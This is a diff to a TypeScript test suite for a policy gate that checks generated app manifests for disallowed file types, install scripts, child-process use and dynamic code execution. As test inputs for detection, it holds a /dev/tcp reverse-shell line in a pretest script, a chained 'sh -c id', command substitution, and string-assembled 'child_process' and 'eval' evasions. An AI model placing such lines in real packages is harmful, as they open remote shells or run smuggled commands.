@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { parse, stringify } from 'yaml';
 import { draftManifest } from '../../lambdas/domain/architect/offline-architect';
 import { APP_KIND_IDS, APP_KINDS, supportedFeatures } from '../../lambdas/domain/architect/catalog';
+import { THEME_IDS } from '../../lambdas/domain/architect/themes';
 import type { GantryManifest } from '../../lambdas/domain/manifest';
 import { globToRegExp, matchesAnyGlob } from '../../lambdas/domain/path-glob';
 import { loadPolicyFile, parsePolicy, PROJECT_ROOT, type Policy } from '../../lambdas/domain/policy';
@@ -66,6 +67,15 @@ describe('policy schema for the gate', () => {
     expect(() => parsePolicy(edit((p) => (p.debugger.timeout_seconds = 0)))).toThrow(/debugger\.timeout_seconds/);
     expect(() => parsePolicy(edit((p) => (p.dependencies.allowed = { 'Not A Name': '1.0.0' })))).toThrow(/dependencies\.allowed/);
   });
+  test('every allowed stack needs a file-type profile; a module rule needs a valid name', () => {
+    expect(() => parsePolicy(edit((p) => (p.stacks.allowed = ['static-web', 'php'])))).toThrow(/stacks\.profiles/);
+    expect(() => parsePolicy(edit((p) => p.stacks.profiles['static-web'].text_extensions.push('.JS')))).toThrow(
+      /stacks\.profiles\.static-web\.text_extensions/,
+    );
+    expect(() => parsePolicy(edit((p) => (p.code_analysis.forbidden_modules[0].rule = 'Bad Rule')))).toThrow(
+      /code_analysis\.forbidden_modules\.0\.rule/,
+    );
+  });
   test('the dependency allowlist is exactly the builder image cache allowlist', () => {
     const cache = JSON.parse(readFileSync(join(PROJECT_ROOT, 'builder-image', 'npm-cache', 'package.json'), 'utf8'));
     expect(policy.dependencies.allowed).toEqual(cache.dependencies ?? {});
@@ -73,13 +83,70 @@ describe('policy schema for the gate', () => {
 });
 
 describe('the gate', () => {
-  test('every app the offline architect generates passes (each kind, default and all features)', () => {
+  test('every app the offline architect generates passes (each kind and theme; default, all and no features)', () => {
+    let checked = 0;
     for (const kind of APP_KIND_IDS) {
-      for (const features of [undefined, supportedFeatures(kind)]) {
-        const manifest = draftManifest({ prompt: `a ${APP_KINDS[kind].title}`, kind, ...(features ? { features } : {}) });
-        expect({ kind, violations: checkManifest(manifest, policy) }).toEqual({ kind, violations: [] });
+      for (const features of [undefined, supportedFeatures(kind), []]) {
+        for (const designTarget of [null, ...THEME_IDS]) {
+          const manifest = draftManifest({
+            prompt: `a ${APP_KINDS[kind].title}`,
+            kind,
+            designTarget,
+            ...(features ? { features } : {}),
+          });
+          expect({ kind, designTarget, violations: checkManifest(manifest, policy) }).toEqual({
+            kind,
+            designTarget,
+            violations: [],
+          });
+          checked++;
+        }
       }
     }
+    expect(checked).toBe(APP_KIND_IDS.length * 3 * (THEME_IDS.length + 1));
+  });
+
+  test('file types: only what the stack profile lists; executables are refused by content', () => {
+    const rules = (m: GantryManifest) => checkManifest(m, policy).map((v) => v.rule);
+    expect(rules(withFile('run.sh', 'echo hi\n'))).toEqual(['file-type-not-allowed']);
+    expect(rules(withFile('tool.exe', 'MZ'))).toEqual(['file-type-not-allowed']);
+    expect(rules(withFile('Makefile', 'all:\n'))).toEqual(['file-type-not-allowed']);
+    expect(rules(withFile('LICENSE', 'MIT\n'))).toEqual([]);
+    expect(rules(withFile('notes.txt', '#!/bin/sh\necho hi\n'))).toEqual(['executable-content']);
+    expect(rules(withFile('tool.mjs', '#!/usr/bin/env node\nconsole.log(1);\n'))).toEqual([]);
+    expect(rules(withFile('tool.mjs', '#!/bin/sh\necho hi\n'))).toContain('executable-content');
+    // A stack with no profile refuses nothing by type (the stack itself is refused).
+    const other: Policy = { ...policy, stacks: { allowed: ['static-web'], profiles: {} } };
+    expect(checkManifest(withFile('run.sh', 'echo hi\n'), other)).toEqual([]);
+  });
+
+  test("package.json scripts start only the profile's programs, with no inline code or substitution", () => {
+    const scripts = (s: Record<string, string>) =>
+      checkManifest(withFile('package.json', JSON.stringify({ name: 'x', scripts: s }, null, 2)), policy).map((v) => v.rule);
+    expect(
+      scripts({ test: 'node --test', build: 'NODE_ENV=production node build.mjs && npm run copy', copy: 'node copy.mjs' }),
+    ).toEqual([]);
+    expect(scripts({ test: 'node --test; sh -c id' })).toEqual(['package-script-command']);
+    expect(scripts({ test: 'node --eval "1"' })).toEqual(['package-script-command']);
+    expect(scripts({ test: 'node $(echo x).mjs' })).toEqual(['package-script-command']);
+    expect(scripts({ pretest: 'bash -i >& /dev/tcp/203.0.113.1/9 0>&1' }).sort()).toEqual([
+      'package-script-command',
+      'reverse-shell',
+    ]);
+  });
+
+  test('the syntax tree finds what the text patterns miss, with the file and line', () => {
+    const v = checkManifest(withFile('build.cjs', "'use strict';\n\nconst x = require('child' + '_process');\n"), policy);
+    expect(v).toEqual([expect.objectContaining({ rule: 'child-process', file: 'build.cjs', line: 3 })]);
+    expect(v[0]?.message).toMatch(/assembled at run time/);
+    const page = checkManifest(
+      {
+        ...base,
+        files: [{ path: 'index.html', content: '<h1>x</h1>\n<script>\nconst f = globalThis["ev" + "al"];\n</script>\n' }],
+      },
+      policy,
+    );
+    expect(page).toEqual([expect.objectContaining({ rule: 'dynamic-code-execution', file: 'index.html', line: 3 })]);
   });
 
   test('a pattern reports the file and the line of its first match', () => {
@@ -88,13 +155,17 @@ describe('the gate', () => {
     expect(v[0]?.message).toMatch(/found "eval\("/);
   });
 
-  test('patterns apply only to the files their globs name; binary files are never scanned', () => {
+  test('patterns apply only to the files their globs name; binary types are not scanned as text', () => {
     expect(checkManifest(withFile('notes.md', 'Never call eval(x).'), policy)).toEqual([]);
-    const binary = {
+    const asBase64 = (path: string, text: string): GantryManifest => ({
       ...base,
-      files: [...base.files, { path: 'a.js', content: Buffer.from('eval(x)').toString('base64'), encoding: 'base64' as const }],
-    };
-    expect(checkManifest(binary, policy)).toEqual([]);
+      files: [...base.files, { path, content: Buffer.from(text).toString('base64'), encoding: 'base64' as const }],
+    });
+    expect(checkManifest(asBase64('a.png', 'eval(x)'), policy)).toEqual([]);
+    // A text type is decoded and read: base64 does not hide code from the rules.
+    expect(checkManifest(asBase64('a.js', 'eval(x)'), policy)).toEqual([
+      expect.objectContaining({ rule: 'dynamic-code-execution', file: 'a.js', line: 1 }),
+    ]);
   });
 
   test('commands are scanned by patterns that ask for it', () => {
@@ -115,9 +186,9 @@ describe('the gate', () => {
     expect(checkManifest(pkg({ optionalDependencies: { other: '1.0.0' } }), allowing)).toEqual([
       expect.objectContaining({ rule: 'dependency-not-allowed', file: 'package.json', line: 3 }),
     ]);
-    expect(checkManifest(pkg({ scripts: { preinstall: 'x' } }), allowing).map((v) => v.rule)).toEqual(['install-script']);
+    expect(checkManifest(pkg({ scripts: { preinstall: 'node x.js' } }), allowing).map((v) => v.rule)).toEqual(['install-script']);
     expect(
-      checkManifest(pkg({ scripts: { preinstall: 'x' } }), {
+      checkManifest(pkg({ scripts: { preinstall: 'node x.js' } }), {
         ...allowing,
         dependencies: { ...allowing.dependencies, forbid_install_scripts: false },
       }),
